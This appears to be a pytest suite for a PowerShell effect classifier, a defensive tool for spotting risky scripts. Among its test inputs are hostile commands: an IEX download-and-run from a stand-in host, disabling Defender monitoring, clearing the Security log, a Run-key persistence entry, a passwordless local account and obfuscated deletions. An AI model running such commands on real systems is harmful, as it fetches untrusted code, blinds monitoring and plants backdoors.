"""PowerShell scripts: cmdlets, aliases, .NET members, pipelines, what is decoded, what is unread."""

import pytest

from classifiers.code.library import library
from classifiers.effects import OpaqueReason
from classifiers.powershell import classify_powershell
from classifiers.powershell.repair import mended, original


def short(action):
    return [f"{e.action} {e.domain}:{e.target}" for e in action.effects]


CASES = [
    # loops come again with what they left, and numbers in a row are what they are
    (r'for ($i=0; $i -lt 3; $i++) { Remove-Item "C:\t\f$i" }', [r"delete filesystem:C:\t\f0", "delete filesystem:None"]),
    (r'$i=0; while ($i -lt 3) { Remove-Item "C:\t\f$i"; $i++ }', [r"delete filesystem:C:\t\f0", "delete filesystem:None"]),
    (r'$i=0; do { Remove-Item "C:\t\f$i"; $i -= 1 } until ($q)', [r"delete filesystem:C:\t\f0", "delete filesystem:None"]),
    (r'1..2 | % { Remove-Item "C:\t\f$_" }', [r"delete filesystem:C:\t\f1", r"delete filesystem:C:\t\f2"]),
    (r'foreach ($i in 2..1) { Remove-Item "C:\t\f$i" }', [r"delete filesystem:C:\t\f2", r"delete filesystem:C:\t\f1"]),
    (r"$a = 'C:\x', 'D:\y'; Copy-Item @a", [r"read filesystem:C:\x", r"modify filesystem:D:\y"]),
    (r"Remove-Item C:\My` Files\a.txt", [r"delete filesystem:C:\My Files\a.txt"]),
    (r"cd HKCU:\Software; Set-ItemProperty -Path Foo -Name Bar -Value 1", [r"modify environment:HKCU\Software\Foo\Bar"]),
    (r"Remove-Item -Path C:\data -Recurse -Force", [r"delete filesystem:C:\data"]),
    (r"rm C:\data\a.txt", [r"delete filesystem:C:\data\a.txt"]),
    (r"Get-ChildItem C:\data | Remove-Item", [r"read filesystem:C:\data", r"delete filesystem:C:\data\*"]),
    (r"$d = 'C:\data'; Remove-Item $d -Recurse", [r"delete filesystem:C:\data"]),
    (r'$d = "C:\data"; Remove-Item "$d\a"', [r"delete filesystem:C:\data\a"]),
    (r"[System.IO.File]::Delete('C:\a')", [r"delete filesystem:C:\a"]),
    (r"'x' | Out-File C:\a.txt", [r"modify filesystem:C:\a.txt"]),
    (r"Get-Process > C:\a.txt", ["read process:*", r"modify filesystem:C:\a.txt"]),
    ("Invoke-WebRequest https://shop.example/a -OutFile a.zip", ["receive network:shop.example", "modify filesystem:a.zip"]),
    ("(New-Object Net.WebClient).DownloadFile('https://shop.example/a', 'a.exe')", ["receive network:shop.example", "modify filesystem:a.exe"]),
    ("irm https://shop.example/a -Method Delete", ["send network:shop.example"]),
    (r"Set-ItemProperty HKCU:\Software\Microsoft\Windows\CurrentVersion\Run -Name up -Value notepad.exe", ["modify scheduler:HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\up", "execute process:notepad.exe"]),
    ("Set-MpPreference -DisableRealtimeMonitoring $true", ["modify services:defender"]),
    ("Stop-Service -Name audit", ["control services:service:audit"]),
    ("Clear-EventLog -LogName Security", ["delete services:log:Security"]),
    ("New-LocalUser helper -NoPassword", ["create identity:user:helper"]),
    (r"cmd /c del C:\a", [r"delete filesystem:C:\a"]),
    (r"Start-Process cmd -ArgumentList '/c del C:\a'", [r"delete filesystem:C:\a"]),
    (r"1..3 | ForEach-Object { Remove-Item C:\a }", [r"delete filesystem:C:\a"]),
    (r"function Go($p) { Remove-Item $p }; Go C:\a", [r"delete filesystem:C:\a"]),
    (r"function Go { Remove-Item C:\a }", []),
    (r"iex('Remove-' + 'Item C:\a')", [r"delete filesystem:C:\a"]),
    (r"&('Remove-{0}' -f 'Item') C:\a", [r"delete filesystem:C:\a"]),
    (r"if (Test-Path C:\a) { Remove-Item C:\a }", [r"delete filesystem:C:\a"]),
    ("Get-Date; Write-Host 'hi'; 1 + 1", []),
    (r"$env:MODE = 'x'", ["modify environment:env:MODE"]),
]  # fmt: skip


@pytest.mark.parametrize(("text", "expected"), CASES, ids=[t[:50] for t, _ in CASES])
def test_a_script_has_the_effects_of_its_calls(text, expected):
    action = classify_powershell(text)
    assert short(action) == expected
    assert action.complete, action.opaque


def test_what_is_downloaded_and_run_is_remote_code():
    action = classify_powershell("IEX (New-Object Net.WebClient).DownloadString('https://drop.example/a.ps1')")
    assert short(action) == ["receive network:drop.example", "execute code:None"]
    assert [f.kind for f in action.flows] == ["remote_code"]
    assert not action.complete


def test_a_dry_run_destroys_nothing():
    (effect,) = classify_powershell(r"Remove-Item C:\a -WhatIf").effects
    assert effect.dry_run
    assert effect.destructive is False


@pytest.mark.parametrize(("text", "reason"), [
    (r"& $tool /x", OpaqueReason.DYNAMIC_COMMAND),
    ("Invoke-Frobnicate", OpaqueReason.UNKNOWN_EXECUTABLE),
    (r". C:\a.ps1", OpaqueReason.PAYLOAD_UNREADABLE),
    ("Import-Module .\\a.psm1", OpaqueReason.PAYLOAD_UNREADABLE),
    ("[Acme.Tool]::Run('x')", OpaqueReason.DYNAMIC_COMMAND),
    ("Add-Type -TypeDefinition $c", OpaqueReason.PAYLOAD_UNREADABLE),
    ("Invoke-Expression $x", OpaqueReason.PAYLOAD_UNREADABLE),
])  # fmt: skip
def test_what_cannot_be_read_is_said(text, reason):
    assert reason in [o.reason for o in classify_powershell(text).opaque]


def test_an_environment_path_keeps_its_text_and_scope():
    (effect,) = classify_powershell(r"Remove-Item $env:TEMP\a.log").effects
    assert (effect.target, effect.target_raw, effect.path_scope) == (None, r"$env:temp\a.log", "temp")


def test_mended_text_keeps_its_positions():
    text = r"iex('a'); del $env:TEMP\a"
    spelled, places = mended(text)
    assert spelled == "iex ('a'); del \"$env:TEMP\\a\""
    assert text[original(places, spelled.index("del")) :].startswith("del")


@pytest.mark.parametrize(("text", "spelled"), [
    ("select Name, Id", "select 'Name', 'Id'"),
    ("$x.a(1GB, 2)", "$x.a(100, 2)"),
    ("param($a) ls", "param($a)\n ls"),
    ("switch ($x) { 'a' { b } default { c } }", "switch ($x) { 'a' { b }; default { c } }"),
    ("$a[0, 1]; [x, y]; 'p, q'; @{ a = 1, 2 }", "$a[0, 1]; [x, y]; 'p, q'; @{ a = 1, 2 }"),
    ("@'\na, b\n'@", "@'\na, b\n'@"),
])  # fmt: skip
def test_a_spelling_the_grammar_does_not_know_is_another(text, spelled):
    assert mended(text)[0] == spelled


def test_the_tables_load():
    assert library("powershell").calls["remove-item"].effects


@pytest.mark.parametrize(
    "text", ["", "(" * 2000, "{" * 2000, '"$(' * 500, "`" * 999, "a|" * 3000, "\0", "é" * 99 + " | rm x"]
)
def test_hostile_text_never_raises(text):
    assert classify_powershell(text).effects is not None
